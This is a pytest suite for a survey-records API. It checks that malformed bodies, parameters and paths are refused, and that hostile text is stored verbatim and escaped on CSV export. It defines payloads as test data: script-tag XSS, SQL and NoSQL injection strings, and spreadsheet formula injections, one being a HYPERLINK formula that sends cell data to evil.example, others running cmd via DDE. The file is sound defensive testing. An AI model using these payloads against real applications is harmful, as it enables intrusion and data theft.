"""A corpus of hostile input: each item is refused with a 4xx in the error shape and nothing is
stored, or it is stored verbatim and escaped wherever it is shown or exported."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import orjson
import pytest

from conftest import Tenant, assert_error

JSON = {"Content-Type": "application/json"}

MALFORMED_BODIES: list[tuple[str, bytes]] = [
    ("empty", b""),
    ("truncated", b'{"email": "a@example.com", "score": 7'),
    ("trailing comma", b'{"email": "a@example.com", "score": 7,}'),
    ("single quotes", b"{'email': 'a@example.com', 'score': 7}"),
    ("NaN", b'{"email": "a@example.com", "score": NaN}'),
    ("invalid utf-8", b'{"email": "a@example.com", "score": 7, "comment": "\xff\xfe\xfa"}'),
    ("lone surrogate", b'{"email": "a@example.com", "score": 7, "comment": "\\ud800"}'),
    (
        "deep nesting",
        b'{"email": "a@example.com", "score": 7, "custom": ' + b'{"a": ' * 5000 + b"1" + b"}" * 5001,
    ),
    ("deep array", b"[" * 100_000 + b"]" * 100_000),
    ("not an object", b'"just a string"'),
    ("array instead of object", b'[{"email": "a@example.com", "score": 7}]'),
    ("null", b"null"),
    ("NUL in comment", b'{"email": "a@example.com", "score": 7, "comment": "a\\u0000b"}'),
    ("NUL in email", b'{"email": "a\\u0000@example.com", "score": 7}'),
    ("NUL in custom key", b'{"email": "a@example.com", "score": 7, "custom": {"k\\u0000": 1}}'),
    ("score as string", b'{"email": "a@example.com", "score": "7"}'),
    ("score as float", b'{"email": "a@example.com", "score": 7.0}'),
    ("score as bool", b'{"email": "a@example.com", "score": true}'),
    ("score huge", b'{"email": "a@example.com", "score": 100000000000000000000000000000}'),
    ("score negative", b'{"email": "a@example.com", "score": -1}'),
    ("email object", b'{"email": {"$ne": null}, "score": 7}'),
    ("email too long", orjson.dumps({"email": "a" * 400 + "@example.com", "score": 7})),
    ("comment too long", orjson.dumps({"email": "a@example.com", "score": 7, "comment": "x" * 70_000})),
    ("custom not object", b'{"email": "a@example.com", "score": 7, "custom": [1, 2]}'),
    ("huge custom", orjson.dumps({"email": "a@example.com", "score": 7, "custom": {"k": "v" * 100_000}})),
    ("date garbage", b'{"email": "a@example.com", "score": 7, "dateAnswered": "yesterday-ish"}'),
    ("date year 0", b'{"email": "a@example.com", "score": 7, "dateAnswered": "0000-01-01T00:00:00Z"}'),
    ("date far future", b'{"email": "a@example.com", "score": 7, "dateAnswered": "9999-12-31T23:59:59Z"}'),
    ("unknown field", b'{"email": "a@example.com", "score": 7, "$where": "1"}'),
    ("cId injection", b'{"email": "a@example.com", "score": 7, "cId": "1 OR 1=1"}'),
]


def count(client: Any, tenant: Tenant) -> int:
    return len(client.get("/nps", params={"npsExpiryDay": 0, "limit": 10000}, headers=tenant.viewer).json())


@pytest.mark.parametrize(("label", "body"), MALFORMED_BODIES, ids=[m[0] for m in MALFORMED_BODIES])
def test_malformed_record_bodies_are_refused(client: Any, tenant: Tenant, label: str, body: bytes) -> None:
    r = client.post("/nps", content=body, headers={**tenant.editor, **JSON})
    assert 400 <= r.status_code < 500, (label, r.status_code, r.text[:300])
    assert_error(r, r.status_code)
    assert count(client, tenant) == 0


def test_malformed_bulk_bodies_are_refused_whole(client: Any, tenant: Tenant) -> None:
    for body in (
        b"{",
        b'{"email": "a@example.com"}',
        b"[" * 50_000 + b"]" * 50_000,
        b"\xff",
        orjson.dumps([{"email": f"u{i}@example.com", "score": 1} for i in range(5001)]),
        orjson.dumps(["x" * 10] * 10),
    ):
        r = client.put("/nps", content=body, headers={**tenant.editor, **JSON})
        assert r.status_code in (206, 400), r.text[:200]
        if r.status_code == 206:
            assert r.json()["created"] == 0
    assert count(client, tenant) == 0


@pytest.mark.parametrize(
    "path", ["/companies", "/endusers", "/v1/nps-surveys", "/v1/webhooks", "/v1/unsubscribes"]
)
def test_malformed_bodies_elsewhere(client: Any, tenant: Tenant, path: str) -> None:
    for body in (
        b"{",
        b"[]",
        b'{"name": "a\\u0000b", "email": "a\\u0000@x.com"}',
        b"\xff\xfe",
        b'{"name": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        orjson.dumps({"name": "n" * 100_000}),
        b'{"name": "\\ud800", "email": "\\ud800@x.com", "url": "http://\\ud800/"}',
        b'{"name": "n", "email": "n@example.com", "custom": {"big": 1e30}}',
    ):
        r = client.post(path, content=body, headers={**tenant.admin, **JSON})
        assert 400 <= r.status_code < 500, (path, body[:40], r.status_code, r.text[:200])
        assert_error(r, r.status_code)


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/nps", {"limit": "ten"}),
        ("/nps", {"limit": "-1"}),
        ("/nps", {"offset": "1e9999"}),
        ("/nps", {"since": "not-a-date"}),
        ("/nps", {"sort": "'; DROP TABLE nps_record; --"}),
        ("/nps", {"companyId": "abc\x00"}),
        ("/nps", {"email": "x" * 5000}),
        ("/nps", {"select": "\x00"}),
        ("/nps", {"scoreType": "<script>"}),
        ("/companies", {"sort": "password"}),
        ("/v1/nps-surveys", {"sortBy": "id; DROP"}),
        ("/v1/nps-surveys", {"limit": "1000"}),
        ("/v1/nps-surveys/nps-metrics", {"interval": "fortnight"}),
        ("/v1/nps-surveys/nps-metrics", {"since": "2026-02-30"}),
        ("/nps/export", {"format": "exe"}),
    ],
)
def test_malformed_parameters(client: Any, tenant: Tenant, path: str, params: dict[str, str]) -> None:
    r = client.get(path, params=params, headers=tenant.viewer)
    assert_error(r, 400)


def test_malformed_ids_and_paths(client: Any, tenant: Tenant) -> None:
    for path in (
        "/nps/%00",
        "/nps/" + "a" * 5000,
        "/companies/extid-%00",
        "/v1/nps-surveys/%2e%2e",
        "/v1/webhooks/zzz",
        "/endusers/srcid-" + "\u202e" * 10,
    ):
        r = client.get(path, headers=tenant.admin)
        assert r.status_code in (400, 404), (path, r.status_code, r.text[:200])
        assert_error(r, r.status_code)


HOSTILE_TEXT = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE nps_record; --",
    "Robert'); DELETE FROM enduser WHERE ('1'='1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "e\u0301\u0301\u0301 \U0001f600 \u202eevil\u202c \u200b zero\u200dwidth \uffff",
    "\u0645\u0631\u062d\u0628\u0627 \u4f60\u597d \U00010348",
]


def test_hostile_text_is_stored_verbatim_and_escaped_on_export(client: Any, tenant: Tenant) -> None:
    ids = []
    for i, text in enumerate(HOSTILE_TEXT):
        r = client.post(
            "/nps",
            json={
                "email": f"h{i}@example.com",
                "score": i % 11,
                "comment": text,
                "source": text[:200],
                "custom": {"note": text},
            },
            headers=tenant.editor,
        )
        assert r.status_code == 200, r.text
        ids.append(r.json()["_id"])
    for rid, text in zip(ids, HOSTILE_TEXT, strict=True):
        got = client.get(f"/nps/{rid}", headers=tenant.viewer).json()
        assert got["comment"] == text and got["custom"] == {"note": text}
    exported = client.get("/nps/export", params={"format": "csv", "npsExpiryDay": 0}, headers=tenant.viewer)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    by_comment = {row["comment"]: row for row in rows}
    for text in HOSTILE_TEXT:
        if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert "'" + text in by_comment, text
            assert by_comment["'" + text]["custom.note"] == "'" + text
        else:
            assert text in by_comment, text
    as_json = client.get(
        "/nps/export", params={"format": "json", "npsExpiryDay": 0}, headers=tenant.viewer
    ).json()
    assert sorted(r["comment"] for r in as_json) == sorted(HOSTILE_TEXT)


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/companies", {"name": "n", "custom": {"big": 1e30}}, "custom"),
        ("/endusers", {"email": "big@example.com", "custom": {"nested": [{"big": -(2**70)}]}}, "custom"),
        ("/companies", {"name": "\ud800"}, "name"),
        ("/endusers", {"email": "x@example.com", "name": "a\ud800b"}, "name"),
        ("/v1/nps-surveys", {"name": "survey \udfff"}, "name"),
    ],
)
def test_unstorable_values_are_refused_everywhere(
    client: Any, tenant: Tenant, path: str, body: dict[str, Any], field: str
) -> None:
    raw = json.dumps(body).encode()  # stdlib json writes lone surrogates and huge integers as given
    r = client.post(path, content=raw, headers={**tenant.admin, **JSON})
    assert_error(r, 400, field)
